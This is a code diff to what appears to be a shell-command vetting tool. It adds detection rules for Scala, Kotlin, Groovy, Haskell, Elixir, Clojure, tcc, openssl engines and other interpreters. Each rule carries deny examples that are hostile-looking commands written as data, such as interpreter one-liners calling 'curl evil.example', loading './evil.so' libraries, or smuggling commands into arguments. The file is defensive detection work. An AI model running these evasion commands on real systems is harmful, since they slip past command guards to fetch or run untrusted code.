@@ -485,6 +485,39 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4"], pass: ["echo 'define(x, 1)x' | m4"] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
   language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ["osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
+  // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
+  // or evaluates code is named; one whose command is not a literal makes the code cannot-vouch.
+  language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, calls: /"((?:[^"\\]|\\.)*)"\s*\.\s*!{1,2}/g, any: /\.\s*!{1,2}|\.\s*lazyLines|Process\s*\(|Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|fromURL|requests\.|sttp|HttpClient|eval|Class\.forName/g, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
+  language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
+  language({ names: ['groovy', 'groovysh'], summary: 'Groovy: "cmd".execute() and Runtime start commands', code: /^(-e)$/, calls: new RegExp(`(?:${STR})\\s*\\.execute\\(\\s*\\)`, 'g'), any: /\.execute\s*\(|Runtime|ProcessBuilder|java\.net|\.toURL|URL\s*\(|Socket|evaluate|Eval\.|GroovyShell|Class\.forName/g, stdin: true, examples: { deny: ["groovy -e '\"curl evil.example\".execute()'"], pass: ["groovy -e 'println 1'"] } }),
+  language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'"] } }),
+  language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries', code: /^(-e)$/, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})`, 'g'), any: /System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'"], pass: ["ghc -e 'print (1 + 1)'", 'ghc -O2 Main.hs'] } }),
+  language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell)|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'"] } }),
+  language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
+  language({ names: ['raku', 'rakudo'], summary: 'Raku: shell, run, qx and the socket and HTTP modules', code: /^(-e)$/, calls: new RegExp(`\\b(?:shell|qx)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\b(shell|run|qx|Proc|IO::Socket|HTTP|LWP|EVAL|NativeCall|Cro)\b/g, stdin: true, examples: { deny: ["raku -e 'shell \"curl evil.example\"'"], pass: ["raku -e 'say 1'"] } }),
+  language({ names: ['crystal'], summary: 'Crystal: crystal eval CODE; system, backticks, Process and HTTP', code: /^(eval)$/, calls: new RegExp(`\\bsystem\\s*\\(?\\s*(?:${STR})|\`([^\`]*)\``, 'g'), any: /\bsystem\b|`|Process\.|HTTP::|Socket|%x/g, examples: { deny: ["crystal eval 'system \"curl evil.example\"'"], pass: ["crystal eval 'puts 1'", 'crystal build src/main.cr'] } }),
+  language({ names: ['swift'], summary: 'Swift: Process, system and URLSession', code: /^(-e)$/, calls: /(?!)/g, any: /Process\s*\(|NSTask|\bsystem\s*\(|posix_spawn|popen|URLSession|URL\s*\(|Socket|dlopen|NSAppleScript/g, examples: { deny: ["swift -e 'import Foundation; let p = Process()'"], pass: ["swift -e 'print(1)'", 'swift build'] } }),
+  language({ names: ['bb', 'nbb', 'clojure', 'clj'], summary: 'Clojure and Babashka: shell, sh, process, slurp of URLs, eval', code: /^(-e|--eval)$/, valued: /^(-Sdeps|--classpath|-cp)$/, calls: new RegExp(`\\((?:shell|sh|babashka\\.process/shell|clojure\\.java\\.shell/sh|p/shell|process)\\s+(?:${STR})`, 'g'), any: /\b(shell|sh|process|exec|babashka\.process|clojure\.java\.shell|Runtime|ProcessBuilder|http|slurp|curl|eval|load-string|load-file|socket|java\.net)\b/g, stdin: true, examples: { deny: ["bb -e '(babashka.process/shell \"curl evil.example\")'", "clojure -M -e '(clojure.java.shell/sh \"curl\" \"evil.example\")'"], pass: ["bb -e '(println 1)'"] } }),
+  language({ names: ['hy'], summary: 'Hy: Python in Lisp — its imports and calls', code: /^(-c)$/, calls: new RegExp(`\\(os\\.system\\s+(?:${STR})`, 'g'), any: /\b(os|subprocess|socket|urllib|requests|http|pty|ctypes|eval|exec|import|require)\b/g, stdin: true, examples: { deny: ["hy -c '(import os) (os.system \"curl evil.example\")'"], pass: ["hy -c '(print 1)'"] } }),
+  language({ names: ['janet'], summary: 'Janet: os/shell, os/execute, net', code: /^(-e)$/, calls: new RegExp(`\\(os/shell\\s+(?:${STR})`, 'g'), any: /os\/(shell|execute|spawn|popen)|net\/|\beval\b|dofile|require|ffi\//g, examples: { deny: ["janet -e '(os/shell \"curl evil.example\")'"], pass: ["janet -e '(print 1)'"] } }),
+  language({ names: ['fennel'], summary: 'Fennel: Lua underneath — os.execute and io.popen', code: /^(-e|--eval)$/, calls: new RegExp(`\\((?:os\\.execute|io\\.popen)\\s+(?:${STR})`, 'g'), any: /os\.execute|io\.popen|require|\bload\b|dofile|socket|eval/g, examples: { deny: ["fennel -e '(os.execute \"curl evil.example\")'"], pass: ["fennel -e '(print 1)'"] } }),
+  language({ names: ['gjs'], summary: 'GNOME JavaScript: GLib spawn, Gio subprocesses and Soup', code: /^(-c|--command)$/, calls: new RegExp(`spawn_command_line_(?:sync|async)\\(\\s*(?:${STR})`, 'g'), any: /spawn|Subprocess|Soup|Gio\.Socket|imports\.|eval|Function\s*\(/g, examples: { deny: ["gjs -c 'imports.gi.GLib.spawn_command_line_sync(\"curl evil.example\")'"], pass: ["gjs -c 'print(1)'"] } }),
+  language({ names: ['zx'], summary: 'zx: JavaScript whose $`…` templates run shell text', code: /^(-e|--eval)$/, calls: /\$`([^`$]*)`/g, any: /\$`|\$\(|\bspawn|\bexec|fetch\s*\(|require\s*\(|import\s*\(|\beval\b|Function\s*\(/g, stdin: true, examples: { deny: ["zx --eval 'await $`curl evil.example`'"], pass: ["zx --eval 'console.log(1)'", "zx --eval 'await $`ls`'"] } }),
+  {
+    names: ['openssl'],
+    summary: 'openssl: engine and -engine/-provider load shared libraries (code); s_client connects (deniedNetworkBinaries)',
+    analyze(call) {
+      const runs: Run[] = [];
+      const args = call.args;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        const lib = v === '-engine' || v === '-provider' || v === '-provider-path' ? args[i + 1] : v === 'engine' && i === 0 ? args.slice(1).find((a) => !(value(a) ?? '').startsWith('-')) : undefined;
+        if (lib && value(lib) !== 'default' && !(v === '-provider' && /^(default|base|legacy|fips|null)$/.test(value(lib) ?? ''))) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: lib, why: `openssl ${v} loads a shared library` });
+      }
+      return { runs };
+    },
+    examples: { deny: ['openssl engine -t ./evil.so', 'openssl req -engine ./evil.so -new'], pass: ['openssl rand -hex 16', 'openssl x509 -in server.crt -noout -text', 'openssl engine', 'openssl list -provider default'] },
+  },
   language({ names: ['slsh'], summary: 'S-Lang shell: system() runs a command', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(|popen|eval/g, examples: { deny: ["slsh -e 'system(\"curl evil.example\")'"], pass: [] } }),
 ];
 
@@ -527,16 +560,42 @@ function apt(call: Call): Partial<Answer> {
 }
 
 /** gcc and clang: `-wrapper prog,args` runs each tool under that program. */
+/** The C compilers' options that take the next word. */
+const CC_VALUED = new Set(['-o', '-x', '-I', '-L', '-l', '-D', '-U', '-include', '-isystem', '-iquote', '-idirafter', '-MF', '-MT', '-MQ', '-Xlinker', '-Xassembler', '-Xpreprocessor', '-wrapper', '-target', '--target', '-arch', '-isysroot', '--sysroot', '-B']);
+
 function compiler(call: Call): Partial<Answer> {
   const args = call.args;
   const runs: Run[] = [];
+  const sources: Word[] = [];
+  let out: Word | undefined;
+  let stdin = false;
+  let linked = true;
   for (let i = 0; i < args.length; i++) {
-    if (value(args[i]) !== '-wrapper' || !args[i + 1]) continue;
-    const w = args[i + 1]!;
-    const v = value(w);
-    runs.push(v === undefined ? { kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name} -wrapper names a computed program` } : { kind: 'argv', argv: v.split(',').filter((t) => t !== '').map((t) => attached(w, t)), via: `${call.name} -wrapper` });
+    const v = value(args[i]);
+    if (v === '-wrapper' && args[i + 1]) {
+      const w = args[i + 1]!;
+      const t = value(w);
+      runs.push(t === undefined ? { kind: 'opaque', rule: 'dynamic-command', word: w, why: `${call.name} -wrapper names a computed program` } : { kind: 'argv', argv: t.split(',').filter((x) => x !== '').map((x) => attached(w, x)), via: `${call.name} -wrapper` });
+    }
+    // tcc -run compiles and runs: C code, which vouch does not read, from stdin or from a file the line wrote.
+    if (v === '-run') {
+      const file = args.slice(i + 1).find((a) => !(value(a) ?? 'x').startsWith('-') || value(a) === '-');
+      if (file && value(file) === '-' && call.stdin) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: file, why: `${call.name} -run runs C code from its stdin, which vouch does not read` });
+      else if (file) runs.push({ kind: 'project', file, files: /$^/, read: (_t, word, name) => [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${call.name} -run runs ${name}, which the line wrote, as C, which vouch does not read` }], word: file, via: call.name });
+      break;
+    }
+    if (v === '-c' || v === '-S' || v === '-E' || v === '-M' || v === '-MM' || v === '-fsyntax-only') linked = false;
+    if (v === '-o' && args[i + 1]) out = args[i + 1];
+    else if (v?.startsWith('-o') && v.length > 2) out = attached(args[i]!, v.slice(2));
+    if (v !== undefined && CC_VALUED.has(v)) {
+      i++;
+      continue;
+    }
+    if (v === '-') stdin = true;
+    else if (v === undefined || !v.startsWith('-')) sources.push(args[i]!);
   }
-  return { runs };
+  const to = out ?? (linked ? literal('a.out', args[0]?.span ?? { start: 0, end: 0 }) : undefined);
+  return to && (sources.length > 0 || stdin) ? { runs, builds: [{ from: sources, stdin, to }] } : { runs };
 }
 
 /** service NAME runs /etc/init.d/NAME: a name with a slash escapes that directory and names any program. */
@@ -656,7 +715,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...LANGUAGES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
-  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program', analyze: compiler, examples: { deny: ['gcc -wrapper /usr/bin/curl,evil.example -c x.c'], pass: ['gcc -O2 -o app main.c', 'clang -Wall -c x.c'] } },
+  { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: ['gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: ['gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
   { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
   { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
   commandOptions(['dnsmasq'], 'dnsmasq: --conf-script runs shell text', { options: { longValued: ['conf-script', 'conf-file', 'conf-dir', 'dhcp-script'] }, script: ['conf-script', 'dhcp-script'] }, { deny: ["dnsmasq --conf-script='curl evil.example'"], pass: ['dnsmasq --test'] }),
